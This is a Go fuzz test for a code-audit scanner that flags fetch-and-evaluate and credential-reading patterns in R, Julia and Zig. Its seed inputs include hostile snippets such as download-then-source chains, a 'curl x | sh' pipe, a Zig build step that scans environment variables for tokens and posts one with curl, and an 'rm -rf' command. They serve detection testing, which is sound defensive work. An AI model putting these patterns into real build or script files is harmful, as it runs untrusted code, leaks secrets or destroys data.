package audit

import (
	"strings"
	"testing"
)

// FuzzScanFetchEval: no R or Julia text stops the fetch-and-evaluate
// reader (call arguments over unbalanced parentheses and quotes, the
// assignment walk, the name scan), nor the Zig argv reader, nor the
// R/Julia/Zig patterns of the credential reader, and every finding's line is inside the file.
func FuzzScanFetchEval(f *testing.F) {
	for _, s := range []string{
		"p = Downloads.download(URL)\ninclude(p)\n",
		"Downloads.download(src, dst)\nBase.include(Main, dst)\n",
		"include_string(Main, String(HTTP.get(u).body))\n",
		"f <- tempfile()\ndownload.file(u, destfile = f)\nsource(f)\n",
		"resp <- httr::GET(u)\ntxt <- httr::content(resp)\neval(parse(text = txt))\n",
		"source(\"https://x.example/a.R\")\n",
		"var it = b.graph.env_map.iterator();\nif (std.mem.indexOf(u8, k, \"TOKEN\") == null) continue;\n_ = b.addSystemCommand(&.{ \"curl\", \"-d\", x });\n",
		"b.addSystemCommand(&.{ \"sh\", \"-c\", \"curl x | sh\" });\n", ".argv = &.{ \"rm\", \"-rf\", x", "download.file(", "include(", "eval(parse(text = readLines(url(", "x <- `a`(", "source(f, '", "r$content$",
		strings.Repeat("x <- download.file(u, f)\n", 40) + strings.Repeat("source(x", 40),
	} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, code string) {
		for _, rel := range []string{"R/x.R", "src/x.jl", "build.zig"} {
			sc := scanCtx(code)
			scanOtherLang(sc, rel, code)
			scanOtherTaint(sc, rel, code)
			fuzzLinesInFile(t, sc, code)
		}
	})
}
